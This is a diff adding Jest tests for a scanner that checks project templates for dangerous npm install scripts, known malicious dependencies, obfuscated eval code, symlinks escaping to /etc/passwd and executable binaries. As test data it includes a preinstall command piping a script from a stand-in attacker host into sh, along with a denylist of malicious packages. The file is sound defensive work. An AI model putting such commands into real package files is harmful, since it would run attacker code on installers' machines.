@@ -0,0 +1,137 @@
+/**
+ * Security Scanner Tests
+ * Tests static analysis of template contents
+ */
+
+const fs = require('fs-extra');
+const os = require('os');
+const path = require('path');
+const {
+  scanTemplate,
+  checkPackageJson,
+  checkObfuscation,
+  formatFinding,
+  scanForVulnerabilities
+} = require('../../src/utils/securityScanner');
+
+describe('securityScanner', () => {
+  let templateDir;
+  let outsideDir;
+
+  const writePackageJson = pkg => fs.writeJson(path.join(templateDir, 'package.json'), { name: 'demo', version: '1.0.0', ...pkg });
+  const rules = report => report.findings.map(finding => `${finding.rule}:${finding.severity}`);
+
+  beforeEach(async() => {
+    templateDir = await fs.mkdtemp(path.join(os.tmpdir(), 'security-scanner-'));
+    outsideDir = await fs.mkdtemp(path.join(os.tmpdir(), 'security-scanner-outside-'));
+    await fs.writeFile(path.join(templateDir, 'README.md'), '# demo\n');
+    await fs.outputFile(path.join(templateDir, 'src/index.js'), 'module.exports = () => "hello";\n');
+  });
+
+  afterEach(async() => {
+    await fs.remove(templateDir);
+    await fs.remove(outsideDir);
+  });
+
+  test('should pass a clean template', async() => {
+    await writePackageJson({ scripts: { build: 'tsc' }, dependencies: { express: '^4.18.0' } });
+
+    const report = await scanTemplate(templateDir);
+
+    expect(report.passed).toBe(true);
+    expect(report.findings).toEqual([]);
+    expect(report.severity).toBeNull();
+    expect(report.summary).toEqual({ critical: 0, high: 0, medium: 0, low: 0 });
+  });
+
+  test('should rank lifecycle scripts by what they do', () => {
+    const findings = checkPackageJson(JSON.stringify({
+      scripts: {
+        preinstall: 'curl -s https://evil.example/x.sh | sh',
+        install: 'node -e "require(\'child_process\').exec(\'id\')"',
+        postinstall: 'wget https://example.com/data.bin',
+        prepare: 'husky install'
+      }
+    }));
+
+    expect(findings.map(finding => finding.severity)).toEqual(['critical', 'high', 'high', 'low']);
+    expect(findings[0].message).toContain('downloads and executes code');
+  });
+
+  test('should flag denylisted dependencies', () => {
+    const findings = checkPackageJson(JSON.stringify({
+      dependencies: { crossenv: '^1.0.0', 'event-stream': '^3.3.4', 'ua-parser-js': '^1.0.2' },
+      devDependencies: { 'coin-hive': '*' }
+    }));
+
+    expect(findings.map(finding => finding.package)).toEqual(['crossenv', 'event-stream', 'coin-hive']);
+    expect(findings.every(finding => finding.rule === 'malicious-dependency' && finding.severity === 'critical')).toBe(true);
+  });
+
+  test('should detect obfuscated code', () => {
+    const blob = Buffer.from('x'.repeat(300)).toString('base64');
+    const findings = checkObfuscation([
+      'const a = 1;',
+      `const payload = "${blob}";`,
+      'eval(atob(payload));',
+      'const f = new Function("return this")();',
+      `//# sourceMappingURL=data:application/json;base64,${blob}`
+    ].join('\n'), 'src/x.js');
+
+    expect(findings.map(finding => [finding.line, finding.message])).toEqual([
+      [2, 'Long base64-encoded string'],
+      [3, 'Use of eval()'],
+      [4, 'Use of the Function constructor']
+    ]);
+  });
+
+  test('should flag symlinks escaping the template root', async() => {
+    await fs.writeFile(path.join(outsideDir, 'secret'), 'secret');
+    await fs.symlink(path.join(outsideDir, 'secret'), path.join(templateDir, 'escape'));
+    await fs.symlink('../../../../../../etc/passwd', path.join(templateDir, 'src/passwd'));
+    await fs.symlink('index.js', path.join(templateDir, 'src/main.js'));
+
+    const report = await scanTemplate(templateDir);
+
+    expect(report.findings.map(finding => finding.file)).toEqual(['escape', 'src/passwd']);
+    expect(rules(report)).toEqual(['symlink-escape:critical', 'symlink-escape:critical']);
+    expect(report.passed).toBe(false);
+  });
+
+  test('should flag binary executables by content and extension', async() => {
+    await fs.writeFile(path.join(templateDir, 'tool'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]));
+    await fs.writeFile(path.join(templateDir, 'setup.exe'), 'not really');
+
+    const report = await scanTemplate(templateDir);
+
+    expect(report.findings.map(formatFinding)).toEqual([
+      '[critical] setup.exe: Executable or native library file',
+      '[critical] tool: ELF executable'
+    ]);
+  });
+
+  test('should sort findings by severity and honour the failure threshold', async() => {
+    await writePackageJson({ scripts: { prepare: 'husky install' } });
+    await fs.outputFile(path.join(templateDir, 'src/hex.js'), `const s = "${'\\x41'.repeat(25)}";\n`);
+    await fs.outputFile(path.join(templateDir, 'src/run.js'), 'eval(code);\n');
+
+    const report = await scanTemplate(templateDir);
+    expect(rules(report)).toEqual(['obfuscated-code:high', 'obfuscated-code:medium', 'lifecycle-script:low']);
+    expect(report.severity).toBe('high');
+    expect(report.passed).toBe(false);
+
+    expect((await scanTemplate(templateDir, { failOn: 'critical' })).passed).toBe(true);
+    await expect(scanTemplate(templateDir, { failOn: 'severe' })).rejects.toThrow('Invalid severity threshold');
+  });
+
+  test('should summarise findings in the vulnerability format', async() => {
+    await writePackageJson({ dependencies: { 'flatmap-stream': '0.1.1' } });
+
+    const result = await scanForVulnerabilities(templateDir);
+
+    expect(result.hasVulnerabilities).toBe(true);
+    expect(result.malwareDetected).toBe(true);
+    expect(result.vulnerabilities).toEqual([expect.objectContaining({ package: 'flatmap-stream', severity: 'critical' })]);
+    expect(result.report.severity).toBe('critical');
+  });
+});